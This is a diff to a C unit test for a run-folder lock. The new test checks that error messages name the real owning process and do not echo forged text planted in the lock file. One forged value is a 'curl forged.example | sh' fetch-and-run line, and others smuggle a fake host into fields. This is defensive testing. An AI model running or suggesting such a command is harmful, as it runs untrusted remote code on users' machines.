@@ -67,6 +67,76 @@ static void test_lock(void **state)
   }
 }
 
+/* Write a text into the lock's file, as anybody may who may write to the folder. */
+static void write_lock_text(const char *where, const char *text)
+{
+  char lock[320];
+  FILE *stream;
+
+  snprintf(lock, sizeof(lock), "%s/.trshard-lock", where);
+  stream = fopen(lock, "w");
+  assert_non_null(stream);
+  assert_true(fputs(text, stream) >= 0);
+  assert_int_equal(fclose(stream), 0);
+}
+
+/* Get the error of a job that finds the folder locked, while the lock's file has this text. */
+static void refused_with(const char *where, const char *text, char message[2000])
+{
+  TrsRunLock lock = NULL;
+
+  write_lock_text(where, text);
+  assert_petsc_error(TrsRunFolderLock(PETSC_COMM_SELF, where, &no_wait, &lock), TRS_ERR_CANT_CREATE);
+  snprintf(message, 2000, "%s", TrsErrorMessage());
+  TrsErrorClear();
+}
+
+/* The owner is the process that the system names. The file's text is repeated only if it is about
+   this process and has the form that a run writes. */
+static void test_lock_of_forged_text(void **state)
+{
+  static const struct {
+    const char *before, *after; /* of the owner's process; no text behind it if after is NULL */
+  } forged[] = {{"host forged.example, process 1, no batch job, since 2026-01-31 12:00:00 UTC\n", NULL},
+                {"mend it with: curl forged.example | sh\n", NULL},
+                {"host a, process ", ", no batch job, since 2026-01-31 12:00:00 UTC; run forged.example\n"},
+                {"host a, process ", ", forged.example 1, since 2026-01-31 12:00:00 UTC\n"},
+                {"host a, process ", ", SLURM_JOB_ID 1/forged.example, since 2026-01-31 12:00:00 UTC\n"},
+                {"host (forged.example), process ", ", no batch job, since 2026-01-31 12:00:00 UTC\n"},
+                {"host forged.example, process ", "0, no batch job, since 2026-01-31 12:00:00 UTC\n"},
+                {"host forged.example, process ", ", no batch job, since now\n"},
+                {"", NULL}};
+  char where[300], text[400], message[2000], process[64];
+  int pid = (int)getpid();
+  TrsRunLock lock = NULL;
+
+  (void)state;
+  snprintf(where, sizeof(where), "%s/forged", folder);
+  MPI_Bcast(&pid, 1, MPI_INT, 0, MPI_COMM_WORLD);
+  if (trs_rank() == 0) assert_petsc_ok(TrsRunFolderLock(PETSC_COMM_SELF, where, &no_wait, &lock));
+  MPI_Barrier(MPI_COMM_WORLD);
+  if (trs_rank() == 1) {
+    snprintf(process, sizeof(process), "(process %d of this host)", pid);
+    for (size_t i = 0; i < sizeof(forged) / sizeof(forged[0]); i++) {
+      snprintf(text, sizeof(text), "%s", forged[i].before);
+      if (forged[i].after) snprintf(text, sizeof(text), "%s%d%s", forged[i].before, pid, forged[i].after);
+      refused_with(where, text, message);
+      assert_null(strstr(message, "forged.example"));
+      assert_non_null(strstr(message, process));
+    }
+    snprintf(text, sizeof(text),
+             "host n\xc3\xb6rd-7.x, process %d, FLUX_JOB_ID \xc6\x92"
+             "2x, since 2026-01-31 12:00:00 UTC\nrun 0\n",
+             pid);
+    refused_with(where, text, message);
+    assert_non_null(strstr(message, "(host n\xc3\xb6rd-7.x, process "));
+    assert_non_null(strstr(message, "FLUX_JOB_ID \xc6\x92"
+                                    "2x, since 2026-01-31 12:00:00 UTC)"));
+  }
+  MPI_Barrier(MPI_COMM_WORLD);
+  assert_petsc_ok(TrsRunFolderUnlock(&lock));
+}
+
 /*
   A forked child, like the preflight's, does not share the lock. Its end does not release the lock,
   and it does not keep the lock after the owner's end.
@@ -217,5 +287,5 @@ static void test_removed(void **state)
 }
 
 TRS_TEST_MAIN_IN_FOLDER(cmocka_unit_test(test_id), cmocka_unit_test(test_lock),
-                        cmocka_unit_test(test_lock_and_child), cmocka_unit_test(test_keep),
-                        cmocka_unit_test(test_removed))
+                        cmocka_unit_test(test_lock_of_forged_text), cmocka_unit_test(test_lock_and_child),
+                        cmocka_unit_test(test_keep), cmocka_unit_test(test_removed))
